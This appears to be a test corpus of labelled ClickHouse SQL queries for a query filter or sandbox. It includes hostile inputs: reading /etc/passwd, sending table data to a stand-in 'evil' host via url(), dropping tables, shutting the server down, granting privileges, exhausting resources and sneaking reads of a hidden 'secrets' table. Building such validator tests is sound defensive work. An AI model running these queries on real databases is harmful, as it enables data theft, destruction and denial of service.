-- [url]
SELECT * FROM url('http://example.com/x.csv', 'CSV')
-- [s3]
SELECT * FROM s3('https://bucket/x', 'CSV')
-- [s3 cluster]
SELECT * FROM s3Cluster('c', 'https://bucket/x')
-- [file]
SELECT * FROM file('x.csv')
-- [scalar file]
SELECT file('/etc/passwd')
-- [remote]
SELECT * FROM remote('127.0.0.1', default.secrets)
-- [remote secure]
SELECT * FROM remoteSecure('h', 'db', 't')
-- [cluster]
SELECT * FROM cluster('c', default.secrets)
-- [cluster all replicas]
SELECT * FROM clusterAllReplicas('c', system.one)
-- [merge]
SELECT * FROM merge('default', '.*')
-- [loop]
SELECT * FROM loop(secrets)
-- [mysql]
SELECT * FROM mysql('h:3306', 'db', 't', 'u', 'p')
-- [postgresql]
SELECT * FROM postgresql('h:5432', 'db', 't', 'u', 'p')
-- [odbc]
SELECT * FROM odbc('DSN=x', 'db', 't')
-- [jdbc]
SELECT * FROM jdbc('x', 'db', 't')
-- [hdfs]
SELECT * FROM hdfs('hdfs://x', 'CSV')
-- [executable]
SELECT * FROM executable('x.sh', 'CSV', 'a String')
-- [dictionary]
SELECT * FROM dictionary('d')
-- [input]
SELECT * FROM input('a String')
-- [view]
SELECT * FROM view(SELECT * FROM secrets)
-- [null table]
SELECT * FROM null('a String')
-- [generate random]
SELECT * FROM generateRandom('a String')
-- [mongodb]
SELECT * FROM mongodb('h', 'db', 'c', 'u', 'p', 'x String')
-- [redis]
SELECT * FROM redis('h', 'k', 'x String')
-- [sqlite]
SELECT * FROM sqlite('x.db', 't')
-- [delta lake]
SELECT * FROM deltaLake('s3://x')
-- [iceberg]
SELECT * FROM iceberg('s3://x')
-- [azure]
SELECT * FROM azureBlobStorage('x')
-- [dict get]
SELECT dictGet('d', 'a', 1)
-- [dict get or default]
SELECT dictGetOrDefault('d', 'a', 1, 'x')
-- [dict has]
SELECT dictHas('d', 1)
-- [join get]
SELECT joinGet('secrets', 'secret', 1)
-- [system tables]
SELECT * FROM system.tables
-- [system processes]
SELECT * FROM system.processes
-- [system one]
SELECT * FROM system.one
-- [system numbers]
SELECT * FROM system.numbers LIMIT 10
-- [information schema]
SELECT * FROM information_schema.tables
-- [information schema upper]
SELECT * FROM INFORMATION_SCHEMA.COLUMNS
-- [settings]
SELECT * FROM orders SETTINGS max_execution_time = 0
-- [settings readonly]
SELECT 1 SETTINGS readonly = 0
-- [format]
SELECT * FROM orders FORMAT JSON
-- [into outfile]
SELECT * FROM orders INTO OUTFILE '/tmp/x'
-- [into outfile format]
SELECT * FROM orders INTO OUTFILE 'x' FORMAT CSV
-- [in a hidden table]
SELECT id FROM orders WHERE id IN secrets
-- [in a hidden table in parentheses]
SELECT id FROM orders WHERE id IN (secrets)
-- [global in a hidden table]
SELECT id FROM orders WHERE id GLOBAL IN secrets
-- [not in a hidden table]
SELECT id FROM orders WHERE id NOT IN secrets
-- [in a qualified hidden table]
SELECT id FROM orders WHERE id IN audit.secrets
-- [in function]
SELECT id FROM orders WHERE in(id, secrets)
-- [global in function]
SELECT id FROM orders WHERE globalIn(id, secrets)
-- [hidden]
SELECT * FROM secrets
-- [hidden qualified]
SELECT * FROM default.secrets
-- [other case is another table]
SELECT * FROM Secrets
-- [listed in other case]
SELECT * FROM Orders
-- [bare name]
SELECT * FROM events
-- [hidden in array join]
SELECT 1 ARRAY JOIN (SELECT groupArray(secret) FROM secrets) AS x
-- [hidden with scalar]
WITH (SELECT max(secret) FROM secrets) AS x SELECT x
-- [scalar with does not shadow a table]
WITH 1 AS secrets SELECT * FROM secrets
-- [hidden in cte]
WITH x AS (SELECT * FROM secrets) SELECT 1
-- [cte of the hidden name]
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
-- [hidden in join]
SELECT * FROM orders ANY LEFT JOIN secrets USING id
-- [hidden in comma]
SELECT * FROM orders, secrets
-- [hidden in prewhere]
SELECT id FROM orders PREWHERE id IN (SELECT id FROM secrets)
-- [hidden in limit by]
SELECT id FROM orders LIMIT 1 BY (SELECT id FROM secrets)
-- [hidden in having]
SELECT status FROM orders GROUP BY status HAVING count() > (SELECT count() FROM secrets)
-- [hidden in lambda]
SELECT arrayMap(x -> (SELECT max(secret) FROM secrets), [1])
-- [hidden in interpolate]
SELECT id, total FROM orders ORDER BY id WITH FILL INTERPOLATE (total AS (SELECT 1 FROM secrets))
-- [hidden in union]
SELECT id FROM orders UNION ALL SELECT secret FROM secrets
-- [hidden table final]
SELECT * FROM secrets FINAL
-- [heredoc trick]
SELECT $$ FROM orders, $$ FROM secrets
-- [like heredoc]
SELECT id FROM orders WHERE note LIKE$$a$$ OR 1 IN secrets
-- [sleep]
SELECT sleep(3)
-- [sleep each row]
SELECT sleepEachRow(1) FROM orders
-- [host name]
SELECT hostName()
-- [version]
SELECT version()
-- [current user]
SELECT currentUser()
-- [current database]
SELECT currentDatabase()
-- [get setting]
SELECT getSetting('readonly')
-- [get macro]
SELECT getMacro('x')
-- [filesystem]
SELECT filesystemAvailable()
-- [uptime]
SELECT uptime()
-- [query id]
SELECT queryID()
-- [throw if]
SELECT throwIf(total > 1, 'x') FROM orders
-- [address to line]
SELECT addressToLine(1)
-- [has column in table]
SELECT hasColumnInTable('default', 'secrets', 'secret')
-- [model evaluate]
SELECT modelEvaluate('m', 1)
-- [catboost]
SELECT catboostEvaluate('/x', 1)
-- [unknown function]
SELECT my_udf(1)
-- [array with constant huge]
SELECT arrayWithConstant(1000000000, 1)
-- [range huge]
SELECT range(1000000000)
-- [repeat huge]
SELECT repeat('x', 1000000000)
-- [numbers huge]
SELECT * FROM numbers(100000000000)
-- [zeros huge]
SELECT * FROM zeros(100000000000)
-- [insert]
INSERT INTO orders VALUES (1)
-- [insert into function]
INSERT INTO FUNCTION url('http://x') SELECT * FROM orders
-- [system]
SYSTEM SHUTDOWN
-- [kill]
KILL QUERY WHERE 1
-- [attach]
ATTACH TABLE x
-- [detach]
DETACH TABLE orders
-- [rename]
RENAME TABLE orders TO x
-- [exchange]
EXCHANGE TABLES orders AND customers
-- [optimize]
OPTIMIZE TABLE orders FINAL
-- [alter delete]
ALTER TABLE orders DELETE WHERE 1
-- [drop]
DROP TABLE orders
-- [create]
CREATE TABLE t (id UInt8) ENGINE = Memory
-- [create view]
CREATE MATERIALIZED VIEW v AS SELECT 1
-- [set]
SET readonly = 0
-- [use]
USE system
-- [show]
SHOW TABLES
-- [describe]
DESCRIBE TABLE secrets
-- [exists]
EXISTS TABLE secrets
-- [explain]
EXPLAIN SELECT 1
-- [grant]
GRANT ALL ON *.* TO x
-- [two statements]
SELECT 1; SELECT 2
-- [query parameter]
SELECT * FROM orders WHERE id = {id:UInt32}
-- [table parameter]
SELECT * FROM {t:Identifier}
-- [parameter as a name]
SELECT {c:Identifier} FROM orders
-- [from select trick]
FROM secrets SELECT *
-- [quoted name with dots]
SELECT * FROM `system.tables`
-- [hidden in array join behind a listed table]
SELECT * FROM orders ARRAY JOIN (SELECT groupArray(secret) FROM secrets) AS a
-- [lateral is a table here]
SELECT * FROM LATERAL secrets.x
-- [function whose letters only look alike]
SELECT toKday()
-- [attacker 000]
SELECT * FROM url('http://evil/x', CSV, 'a String')
-- [attacker 004]
SELECT * FROM s3Cluster('c', 'https://b/x', 'CSV')
-- [attacker 008]
SELECT * FROM clusterAllReplicas('c', default, secrets)
-- [attacker 012]
SELECT * FROM postgresql('h:5432', 'd', 't', 'u', 'p')
-- [attacker 016]
SELECT * FROM hdfs('hdfs://x', 'TSV', 'a String')
-- [attacker 020]
SELECT * FROM view(SELECT * FROM secrets)
-- [attacker 024]
SELECT * FROM fuzzJSON('x')
-- [attacker 028]
SELECT * FROM azureBlobStorage('x', 'y', 'z')
-- [attacker 032]
SELECT * FROM gcs('https://x')
-- [attacker 036]
SELECT * FROM zeros(100000000000)
-- [attacker 040]
SELECT * FROM system.users
-- [attacker 044]
SELECT dictGetOrDefault('d', 'a', 1, 'x'), dictHas('d', 1), dictGetString('d', 'a', toUInt64(1)), dictGetChildren('d', 1)
-- [attacker 048]
SELECT sleep(3)
-- [attacker 052]
SELECT hostName(), version(), currentUser(), currentDatabase(), uptime(), serverUUID(), tcpPort(), FQDN(), displayName(), buildId()
-- [attacker 056]
SELECT * FROM orders INTO OUTFILE 'x' FORMAT CSV
-- [attacker 060]
SELECT * FROM analytics.orders
-- [attacker 064]
SELECT * FROM orders WHERE id IN (secrets)
-- [attacker 068]
WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets
-- [attacker 072]
SELECT arrayMap(x -> (SELECT max(p) FROM secrets), [1])
-- [attacker 076]
SELECT * FROM orders SAMPLE 0.1 OFFSET (SELECT 1 FROM secrets)
-- [attacker 080]
INSERT INTO FUNCTION url('http://evil') SELECT * FROM orders
-- [attacker 084]
SYSTEM SHUTDOWN
-- [attacker 088]
DESCRIBE (SELECT * FROM url('http://x'))
-- [attacker 092]
SET max_threads = 1
-- [attacker 096]
WATCH x
-- [attacker 100]
SELECT range(100000000000)
-- [attacker 104]
SELECT generateUUIDv4(), randomString(10000000000), randomPrintableASCII(100000000000)
-- [attacker 108]
SELECT addressToLine(1), addressToSymbol(1), demangle('x'), trap('x'), filesystemAvailable()
-- [attacker 112]
SELECT ai.generate('x'), aiGenerate('x'), naiveBayesClassifier('m', 'x')
-- [attacker 116]
SELECT COLUMNS('.*') FROM secrets
-- [attacker 120]
(SELECT 1) UNION ALL (SELECT * FROM secrets)
-- [attacker 124]
SELECT * FROM orders WHERE (id, id) IN secrets
-- [attacker 128]
SELECT * FROM system.zeros
-- [attacker 132]
SELECT * FROM remote('x', system, tables)
-- [attacker 136]
SELECT * FROM format(JSONEachRow, '{"a":1}')
-- [attacker 140]
SELECT * FROM mergeTreeParts(default, secrets)
-- [attacker 144]
SELECT count() FROM zeros_mt(1000000000000)
-- [attacker 148]
SELECT CURRENTUSER(), HOSTNAME(), Hostname(), USER(), DATABASE(), SCHEMA()
-- [attacker 152]
SELECT * FROM (SELECT * FROM orders SETTINGS readonly = 0)
-- [attacker 156]
SELECT arrayMap(x -> x IN secrets, [1])
-- [attacker 160]
SELECT * FROM orders LEFT JOIN secrets USING id
-- [attacker 164]
SELECT * REPLACE ((SELECT s FROM secrets) AS id) FROM orders
-- [attacker 168]
SELECT 1 INTO OUTFILE 'x' TRUNCATE FORMAT CSV
-- [apply an unlisted function]
SELECT * APPLY(evil) FROM orders
-- [apply behind another apply]
SELECT * EXCEPT (id) APPLY(toString) APPLY(sleepEachRow) FROM orders
-- [apply to columns]
SELECT COLUMNS('^i') APPLY(throwIf) FROM orders
-- [values with a computed column]
SELECT b FROM values('a UInt8, b String ALIAS file(''/etc/passwd'')', 1)
-- [values with a default]
SELECT * FROM VALUES (('a UInt8, b String DEFAULT hostName()'), (1, 'x'))
-- [values with a computed column in brackets]
SELECT b FROM values((('a UInt8, b/**/alias/**/hostName()')), 1) AS t
-- [reader 001] unknown_table
SELECT (SELECT payload FROM secrets).^a FROM orders
-- [reader 002] unknown_table
SELECT (SELECT payload FROM secrets).:Int64 FROM orders
-- [third wave 01]
SELECT id FROM orders ORDER BY id INTERPOLATE (id AS (SELECT 1 FROM secrets))
-- [third wave 02]
SELECT id FROM orders LIMIT 1 BY (id IN secrets)
-- [third wave 03]
SELECT arrayMap((x, y) -> (x IN secrets), [1], [2])
-- [third wave 04]
WITH x AS (WITH secrets AS (SELECT 1) SELECT * FROM secrets) SELECT * FROM orders WHERE id IN secrets
-- [third wave 05]
SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) WHERE 1 IN secrets
-- [third wave 06]
SELECT * FROM orders WHERE id IN (secrets.x)
-- [third wave 07]
SELECT * FROM mergeTreeIndex(default, secrets)
-- [very many primes]
SELECT count() FROM primes(100000000000)
